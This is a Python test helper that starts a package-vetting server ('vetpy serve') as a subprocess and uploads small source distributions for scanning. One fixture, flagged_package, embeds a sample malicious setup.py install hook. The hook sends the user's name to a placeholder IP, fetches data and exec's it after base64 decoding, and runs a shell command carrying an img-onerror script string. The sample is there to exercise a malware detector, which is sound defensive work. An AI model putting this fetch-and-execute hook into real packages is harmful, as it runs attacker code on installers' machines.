"""Run ``vetpy serve`` as a real subprocess on a free 127.0.0.1 port, and talk to it over HTTP."""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx

from conftest import build_archive

TOKEN = "test-token-" + "x" * 24


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def package(name: str, version: str = "1.0", body: str = "", fmt: str = "tar.gz") -> bytes:
    """A small sdist; ``body`` goes into its setup.py after a plain setup() call."""
    root = f"{name}-{version}"
    setup = f"from setuptools import setup\nsetup(name={name!r}, version={version!r})\n{body}"
    files = {
        f"{root}/PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
        f"{root}/setup.py": setup.encode(),
        f"{root}/{name}/__init__.py": b"VALUE = 1\n",
    }
    return build_archive(files, fmt)


def flagged_package(canary: Path, name: str = "evilpkg", version: str = "0.1") -> bytes:
    """A defanged install-time dropper: its only effect, if anything ran it, is writing ``canary``."""
    body = (
        "import os, base64, subprocess, urllib.request\n"
        "from setuptools.command.install import install\n"
        "class Post(install):\n"
        "    def run(self):\n"
        "        url = 'http://198.51.100.7/x?h=' + os.environ.get('USER', '')\n"
        "        data = urllib.request.urlopen(url).read()\n"
        "        exec(base64.b64decode(data))\n"
        f"        subprocess.Popen(['sh', '-c', 'touch {canary} <img src=x onerror=alert(1)>'])\n"
        "        install.run(self)\n"
    )
    return package(name, version, body)


@dataclass
class Server:
    """A running ``vetpy serve`` and the paths it uses."""

    root: Path
    port: int = 0
    process: subprocess.Popen[bytes] | None = None
    extra: list[str] = field(default_factory=list)
    env: dict[str, str] = field(default_factory=dict)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def db(self) -> Path:
        return self.root / "jobs.sqlite3"

    @property
    def log(self) -> Path:
        return self.root / "server.log"

    def start(self, timeout: float = 60.0) -> None:
        token_file = self.root / "tokens.txt"
        token_file.write_text(f"# tokens\n{TOKEN}\nsecond-token-{'y' * 20}\n")
        self.port = free_port()
        command = [sys.executable, "-m", "vetpy", "serve", "--port", str(self.port), "--db", str(self.db)]
        command += ["--token-file", str(token_file), "--workers", "1", *self.extra]
        env = {**os.environ, **self.env}
        with self.log.open("ab") as log:
            self.process = subprocess.Popen(command, stdout=log, stderr=subprocess.STDOUT, env=env)
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if self.process.poll() is not None:
                raise AssertionError(f"server exited: {self.log.read_text()[-2000:]}")
            try:
                if httpx.get(f"{self.url}/v1/health", timeout=2).status_code == 200:
                    return
            except httpx.HTTPError:
                pass
            time.sleep(0.1)
        raise AssertionError("server did not start")

    def kill(self) -> None:
        """kill -9 the server (its worker processes exit when their pipe closes)."""
        assert self.process is not None
        self.process.send_signal(signal.SIGKILL)
        self.process.wait(timeout=30)

    def stop(self) -> None:
        if self.process is not None and self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
            try:
                self.process.wait(timeout=30)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait(timeout=10)

    def client(self, token: str | None = TOKEN) -> Any:
        headers = {"Authorization": f"Bearer {token}"} if token else {}
        return httpx.Client(base_url=self.url, headers=headers, timeout=30)

    def wait_done(self, job_id: str, timeout: float = 120.0) -> dict[str, Any]:
        with self.client() as client:
            deadline = time.monotonic() + timeout
            while time.monotonic() < deadline:
                job: dict[str, Any] = client.get(f"/v1/scans/{job_id}").json()
                if job["status"] in ("done", "failed"):
                    return job
                time.sleep(0.1)
        raise AssertionError(f"job {job_id} did not finish")


def upload(client: Any, data: bytes, filename: str = "pkg-1.0.tar.gz") -> Any:
    return client.post("/v1/scans", files={"file": (filename, data, "application/octet-stream")})
